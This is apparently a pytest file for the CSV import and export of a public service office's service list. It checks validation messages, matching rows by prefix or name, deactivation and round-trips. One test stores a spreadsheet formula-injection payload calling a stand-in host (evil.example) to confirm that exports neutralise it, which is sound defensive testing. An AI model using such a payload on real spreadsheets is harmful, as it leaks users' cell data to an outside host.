"""The service list as CSV (office/service_csv.py): the shared owso-services.csv loads as it
is, every bad row is named with its line and reason and nothing is written, the import is the
office's whole list (services left out are deactivated), and an export imported again
changes nothing; on every supported database."""

import csv
import io
import time
from importlib import resources

import pytest

from office import catalogue, engine, service_csv
from office.demo import load_demo_office
from office.models import Event, Service, Ticket

SHARED_HEADER = "sector_en,sector_km,service_en,service_km,fee,fee_currency,processing_days,source_url"


def shared_csv() -> bytes:
    return resources.files("office").joinpath("data/owso-services.csv").read_bytes()


def make_csv(rows: list[dict], columns=service_csv.COLUMNS) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode("utf-8")


def row(name_en="Birth certificate", **cells) -> dict:
    base = {
        "sector_en": "Civil status",
        "sector_km": "អត្រានុកូលដ្ឋាន",
        "service_en": name_en,
        "service_km": "សំបុត្រកំណើត",
        "fee": "1000",
        "fee_currency": "KHR",
        "processing_days": "3",
    }
    return {**base, **cells}


def run(data: bytes, clock, bus, *, dry_run=False):
    return service_csv.import_services(data, dry_run=dry_run, actor_id=None, clock=clock, bus=bus)


def errors(plan) -> list[tuple]:
    return [(p.line, p.message) for p in plan.errors]


def written() -> tuple[int, int]:
    return Service.select().count(), Event.select().count()


def test_the_shared_csv_on_an_empty_office_adds_its_25_services_after_a_dry_run_that_writes_nothing(db, clock, bus):
    dry = run(shared_csv(), clock, bus, dry_run=True)
    assert [o.prefix for o in dry.added] == [chr(ord("A") + i) for i in range(25)]
    assert (dry.changed, dry.deactivated, dry.errors) == ([], [], [])
    assert written() == (0, 0)

    done = run(shared_csv(), clock, bus)
    assert [o.prefix for o in done.added] == [o.prefix for o in dry.added]
    services = catalogue.services()
    source = list(csv.DictReader(io.StringIO(shared_csv().decode("utf-8"))))
    assert [s.name_en for s in services] == [r["service_en"] for r in source]  # in the file's order
    assert [s.position for s in services] == list(range(25))
    first = services[0]
    assert (first.prefix, first.fee_riel, first.processing_days, first.group_km) == ("A", 1000, 3, "ការងាររដ្ឋបាល")
    assert sum(1 for s in services if s.fee_riel is None) == sum(1 for r in source if not r["fee"])
    assert [s.source_url for s in services] == [r["source_url"] for r in source]  # the official pages kept
    (summary,) = Event.select().where(Event.kind == "services_imported")
    assert (summary.details["added"], summary.details["changed"], summary.details["deactivated"]) == (25, 0, 0)
    assert Event.select().where(Event.kind == "service_added").count() == 25


def test_the_shared_csv_on_the_demo_office_changes_nothing(db, clock, bus, hasher):
    load_demo_office(hasher=hasher)
    before = written()
    plan = run(shared_csv(), clock, bus)
    assert (plan.added, plan.changed, plan.deactivated, plan.errors) == ([], [], [], [])
    assert written() == (before[0], before[1] + 1)  # only the services_imported event


def test_an_export_imported_again_changes_nothing(office, clock, bus):
    catalogue.change_service(
        office.civil.id,
        {"documents_en": ["ID card", "Family book"], "documents_km": ["អត្តសញ្ញាណប័ណ្ណ"], "target_wait_min": 45},
        actor_id=None,
        clock=clock,
        bus=bus,
    )
    catalogue.change_service(office.land.id, {"active": False}, actor_id=None, clock=clock, bus=bus)
    catalogue.add_service(
        {"name_en": "Land transfer", "name_km": "ផ្ទេរ", "group_en": "Land", "group_km": "ដីធ្លី", "prefix": "B"},
        actor_id=None,
        clock=clock,
        bus=bus,
    )
    snapshots = [catalogue.snapshot(s) for s in catalogue.services()]
    plan = run(service_csv.export_services().encode("utf-8"), clock, bus)
    assert (plan.added, plan.changed, plan.deactivated, plan.errors) == ([], [], [], [])
    assert [catalogue.snapshot(s) for s in catalogue.services()] == snapshots


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_imported_as_it_was(office, clock, bus):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    catalogue.change_service(
        office.civil.id,
        {"name_en": formula, "documents_en": ["-2 photos", "ID card"]},
        actor_id=None,
        clock=clock,
        bus=bus,
    )
    exported = service_csv.export_services()
    (record,) = [
        r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))) if r["prefix"] == office.civil.prefix
    ]
    assert record["service_en"] == "'" + formula  # text to Excel and LibreOffice, not a formula
    assert record["documents_en"] == "'-2 photos | ID card"
    snapshots = [catalogue.snapshot(s) for s in catalogue.services()]
    plan = run(exported.encode("utf-8"), clock, bus)
    assert (plan.added, plan.changed, plan.errors) == ([], [], [])
    assert [catalogue.snapshot(s) for s in catalogue.services()] == snapshots


def test_the_export_has_the_shared_columns_first_then_the_optional_ones_and_a_bom_for_excel(office, clock, bus):
    catalogue.change_service(
        office.civil.id, {"documents_en": ["ID card", "Photo"]}, actor_id=None, clock=clock, bus=bus
    )
    text = service_csv.export_services()
    assert text.startswith("\ufeff" + SHARED_HEADER + ",prefix,target_wait_min,position,active,documents_en,")
    first = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert first["service_en"] == "Certified copy" and first["fee"] == "1000" and first["fee_currency"] == "KHR"
    assert (first["prefix"], first["active"], first["documents_en"]) == ("A", "yes", "ID card | Photo")


def test_rows_match_by_prefix_else_by_name_and_services_left_out_are_deactivated(office, clock, bus):
    data = make_csv(
        [
            row("Certified copies", prefix="A", fee="1500"),  # A, renamed and a new fee
            row("land  TRANSFER", fee="50000"),  # B by its name: only the Khmer and sector change
            row("Birth certificate"),  # new
        ]
    )
    plan = run(data, clock, bus)
    assert [(o.prefix, o.name_en) for o in plan.added] == [("D", "Birth certificate")]
    assert [(o.prefix, o.name_en) for o in plan.deactivated] == [("C", "Driving licence")]
    changed = {o.prefix: {field: (b, a) for field, b, a in o.changes} for o in plan.changed}
    assert changed["A"]["fee_riel"] == (1000, 1500) and changed["A"]["name_en"] == (
        "Certified copy",
        "Certified copies",
    )
    assert "prefix" not in changed["B"] and changed["B"]["group_en"] == ("Land", "Civil status")
    assert Service.get_by_id(office.transport.id).active is False  # deactivated, not deleted
    assert Service.get_by_id(office.land.id).name_en == "land  TRANSFER"


def test_columns_the_file_leaves_out_keep_the_services_values(office, clock, bus):
    catalogue.change_service(
        office.civil.id, {"target_wait_min": 45, "documents_en": ["ID card"]}, actor_id=None, clock=clock, bus=bus
    )
    data = make_csv([row("Certified copy", sector_en="Administration")], columns=SHARED_HEADER.split(","))
    run(data, clock, bus)
    civil = Service.get_by_id(office.civil.id)
    assert (civil.target_wait_min, civil.documents_en, civil.prefix) == (45, ["ID card"], "A")


def test_a_new_fee_from_the_file_leaves_each_issued_ticket_its_own(office, clock, bus):
    ticket = engine.issue(office.civil.id, clock=clock, bus=bus).ticket
    rows = [row("Certified copy", prefix="A", fee="9000"), row("Land transfer", prefix="B"), row("Driving licence")]
    run(make_csv(rows), clock, bus)
    assert Ticket.get_by_id(ticket.id).fee_riel == 1000
    assert engine.issue(office.civil.id, clock=clock, bus=bus).ticket.fee_riel == 9000


def test_a_row_with_a_prefix_is_the_service_that_has_it_now(office, clock, bus):
    rows = [row("Certified copy", prefix="B"), row("Land transfer", prefix="A"), row("Driving licence", prefix="C")]
    plan = run(make_csv(rows), clock, bus)
    assert plan.errors == [] and plan.added == []
    assert (Service.get_by_id(office.civil.id).name_en, Service.get_by_id(office.land.id).name_en) == (
        "Land transfer",
        "Certified copy",
    )


def test_a_service_coming_back_takes_its_prefix_from_one_that_leaves_in_the_same_import(office, clock, bus):
    # Two active services never share a prefix, even between two statements of the import.
    catalogue.change_service(office.civil.id, {"active": False}, actor_id=None, clock=clock, bus=bus)
    newer = catalogue.add_service(
        {"prefix": "A", "name_en": "Notarised copy", "name_km": "ច", "group_en": "Admin", "group_km": "រដ្ឋបាល"},
        actor_id=None,
        clock=clock,
        bus=bus,
    )
    rows = [row("Certified copy"), row("Land transfer"), row("Driving licence")]
    plan = run(make_csv(rows, columns=SHARED_HEADER.split(",")), clock, bus)
    assert [(o.prefix, o.name_en) for o in plan.deactivated] == [("A", "Notarised copy")]
    assert Service.get_by_id(office.civil.id).active and Service.get_by_id(office.civil.id).prefix == "A"
    assert not Service.get_by_id(newer.id).active


def test_an_inactive_service_named_in_the_file_comes_back(office, clock, bus):
    catalogue.change_service(office.transport.id, {"active": False}, actor_id=None, clock=clock, bus=bus)
    rows = [row("Certified copy"), row("Land transfer"), row("driving licence")]
    plan = run(make_csv(rows, columns=SHARED_HEADER.split(",")), clock, bus)
    assert plan.added == [] and plan.deactivated == []
    assert ("active", False, True) in plan.changed[-1].changes
    assert Service.get_by_id(office.transport.id).active


def test_every_bad_row_is_named_with_its_line_and_reason_and_nothing_is_written(office, clock, bus):
    before = written()
    data = make_csv(
        [
            row("Good one"),  # line 2
            row(""),  # 3
            row("Fee in words", fee="one thousand"),  # 4
            row("Negative fee", fee="-5"),  # 5
            row("Days", processing_days="3.5"),  # 6
            row("Dollars", fee_currency="USD"),  # 7
            row("Bad prefix", prefix="ab"),  # 8
            row("Too long", service_km="ក" * 501),  # 9
            row("Good one"),  # 10: the same service as line 2
            row("First B", prefix="Q"),  # 11
            row("Second B", prefix="Q"),  # 12
            row("Maybe", active="perhaps"),  # 13
            row("Piped", documents_en="ID card | Photo||"),  # 14: fine, empty items dropped
        ]
    )
    plan = run(data, clock, bus)
    assert errors(plan) == [
        (3, "service_en: must not be empty"),
        (4, "fee: 'one thousand' is not a whole number of riel, 0 or more (digits only)"),
        (5, "fee: '-5' is not a whole number of riel, 0 or more (digits only)"),
        (6, "processing_days: '3.5' is not a whole number of days (digits only)"),
        (7, "fee_currency: must be KHR (fees are kept in riel)"),
        (8, "prefix: must be 1 to 4 capital letters A-Z"),
        (9, "service_km: String should have at most 500 characters"),
        (13, "active: 'perhaps' is neither yes nor no"),
        (10, "service_en: the same service as line 2"),
        (12, "prefix: Q is also on line 11"),
    ]
    assert (plan.added, plan.changed, plan.deactivated) == ([], [], [])
    assert written() == before


def test_a_wrong_header_is_line_1(db, clock, bus):
    assert errors(run(b"name,fee\nX,1\n", clock, bus))[0][0] == 1
    missing = make_csv([row()], columns=["sector_en", "service_en", "service_km", "fee", "fee_currency"])
    assert errors(run(missing, clock, bus)) == [(1, "missing column(s): sector_km, processing_days")]
    assert errors(run(b"", clock, bus))[0][0] == 1
    assert written() == (0, 0)


def test_the_file_may_have_a_bom_quoted_commas_and_line_breaks_and_lines_are_counted_as_an_editor_shows_them(
    db, clock, bus
):
    text = (
        "\ufeff" + SHARED_HEADER + "\r\n"
        '"Admin, district",រដ្ឋបាល,"A service, with a comma",សេវា,1000,KHR,3,\r\n'
        'Admin,រដ្ឋបាល,"Two\nlines",សេវា,1000,KHR,3,\r\n'
        "Admin,រដ្ឋបាល,Bad fee,សេវា,x,KHR,3,\r\n"
    )
    plan = run(text.encode("utf-8"), clock, bus, dry_run=True)
    # The quoted line break makes the bad row line 5 in an editor; the value "Two\nlines"
    # is no one-line name either (line 3).
    assert errors(plan) == [
        (3, "service_en: must be one line, without control characters"),
        (5, "fee: 'x' is not a whole number of riel, 0 or more (digits only)"),
    ]
    good = text.replace('"Two\nlines"', "Two lines").replace(",x,", ",7,")
    plan = run(good.encode("utf-8"), clock, bus)
    assert [o.name_en for o in plan.added] == ["A service, with a comma", "Two lines", "Bad fee"]
    assert Service.get(Service.name_en == "A service, with a comma").group_en == "Admin, district"


def test_a_file_that_is_not_utf8_names_the_line_of_the_first_bad_byte(db, clock, bus):
    data = (SHARED_HEADER + "\nAdmin,x,Caf\xe9,y,1,KHR,1,\n").encode("latin-1")
    assert errors(run(data, clock, bus)) == [(2, "not UTF-8 text: save the file as CSV UTF-8")]


def test_an_import_that_would_deactivate_a_service_people_wait_for_is_refused(office, clock, bus):
    engine.issue(office.transport.id, clock=clock, bus=bus)
    plan = run(make_csv([row("Certified copy"), row("Land transfer")]), clock, bus)
    assert errors(plan) == [
        (None, "1 ticket(s) wait for C (Driving licence): call, transfer or cancel them before deactivating it")
    ]
    assert Service.get_by_id(office.transport.id).active


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_office_loads_its_149_services_in_one_go(db, clock, bus):
    rows = [
        row(
            f"Service number {i}",
            service_km=f"សេវាលេខ {i} " + "ក" * 150,
            sector_km="ក្រសួង" * 10,
            documents_en=" | ".join(f"Document {d} for service {i}" for d in range(5)),
            documents_km=" | ".join(f"ឯកសារ {d} " + "ខ" * 40 for d in range(5)),
            prefix="",
        )
        for i in range(149)
    ]
    data = make_csv(rows)
    assert len(data) > 64 * 1024  # over the API's usual body limit
    started = time.perf_counter()
    plan = run(data, clock, bus)
    took = time.perf_counter() - started
    assert len(plan.added) == 149 and plan.errors == []
    assert Service.select().where(Service.active).count() == 149
    assert {o.prefix for o in plan.added} >= {"A", "Z", "AA", "ES"}  # 26 + 123 prefixes
    print(f"149 services ({len(data) // 1024} KiB) imported in {took:.2f} s")
    assert took < 10
